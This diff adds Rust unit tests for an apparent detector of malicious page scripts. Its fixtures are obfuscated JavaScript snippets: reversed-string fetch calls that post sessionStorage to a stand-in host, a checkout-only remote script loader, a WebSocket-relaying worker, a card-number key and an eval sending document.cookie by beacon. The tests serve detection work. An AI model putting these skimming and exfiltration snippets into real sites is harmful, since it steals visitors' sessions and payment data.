@@ -952,6 +952,84 @@ mod tests {
         );
     }
 
+    /// Strings turned back at run time by reversing them (through a helper, inline, or as a
+    /// minifier writes it) read as what they say; reversing text that is not a constant is
+    /// an ordinary string utility.
+    #[test]
+    fn reversed_strings_are_read() {
+        let ctx = Context::default();
+        let helper = r#"(function (w) {
+              var r = function (s) { return s.split("").reverse().join(""); };
+              var H = r("dilavni.kcehc-nocivaf//:sptth");
+              w[r("hctef")](H + "/i", { method: "POST", body: w[r("egarotSnoisses")].x });
+            })(window);"#;
+        let f = features(&analyse(helper), None, ctx);
+        for bit in [SINK_FETCH, DECODE, DECODED_NAME, HIDDEN_TEXT] {
+            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
+        }
+        assert_eq!(f.new_hosts, ["favicon-check.invalid"]);
+        let minified =
+            "(function(e){var n=e=>[...e].reverse().join(``);e[n(`hctef`)](`/x`)})(window)";
+        assert_ne!(
+            features(&analyse(minified), None, ctx).signals & SINK_FETCH,
+            0
+        );
+        let declared = r#"function r(s) { return Array.from(s).reverse().join(""); }
+            var t = { k: r("rebmun_cc") };"#;
+        assert_ne!(
+            features(&analyse(declared), None, ctx).signals & SRC_CARD,
+            0
+        );
+        let inline = r#"window["hctef".split("").reverse().join("")]("/x");"#;
+        assert_ne!(
+            features(&analyse(inline), None, ctx).signals & SINK_FETCH,
+            0
+        );
+        let utility =
+            "function rev(s) { return s.split('').reverse().join(''); } rev(input.value);";
+        assert_eq!(features(&analyse(utility), None, ctx).signals & DECODE, 0);
+    }
+
+    /// Code kept in strings (template pieces for `Function`, lines joined into a worker's
+    /// `Blob`) counts where the code holding it runs code, and nowhere else.
+    #[test]
+    fn code_kept_in_strings_counts_where_it_is_run() {
+        let ctx = Context::default();
+        let pieces = r#"(function () {
+              var p = [String.raw`if(!/checkout/.test(location.pathname))return;`,
+                String.raw`window["fe"+"tch"]("https://cdn-static.invalid/a.js").then(function(r){return r.text()});`];
+              setTimeout(function () { new Function(p.join(""))(); }, 500);
+            })();"#;
+        let f = features(&analyse(pieces), None, ctx);
+        for bit in [SINK_FETCH, HIDDEN_TEXT, CHECKOUT_WORD, LOCATION] {
+            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
+        }
+        assert_eq!(f.new_hosts, ["cdn-static.invalid"]);
+        let worker = r#"(function () {
+              var src = ["var ws=new WebSocket('wss://pool.invalid/p');",
+                "onmessage=function(m){ws.send(m.data)};"].join("
+");
+              new Worker(URL.createObjectURL(new Blob([src])));
+            })();"#;
+        let s = features(&analyse(worker), None, ctx).signals;
+        assert_ne!(s & SINK_WEBSOCKET, 0);
+        assert_ne!(s & WORKER, 0);
+        let kept = r#"(function () {
+              var help = "Call fetch(url) first; then { read } the body.";
+              document.title = help;
+            })();"#;
+        assert_eq!(
+            features(&analyse(kept), None, ctx).signals & SINK_FETCH,
+            0,
+            "code-like text nothing runs is text"
+        );
+        let evaluated = r#"eval("navigator.sendBeacon('/b', document.cookie);");"#;
+        assert_ne!(
+            features(&analyse(evaluated), None, ctx).signals & SINK_BEACON,
+            0
+        );
+    }
+
     /// A name assembled from pieces is a hidden name; markup written with script in it,
     /// a command put on the clipboard and code run from a data channel are seen.
     #[test]
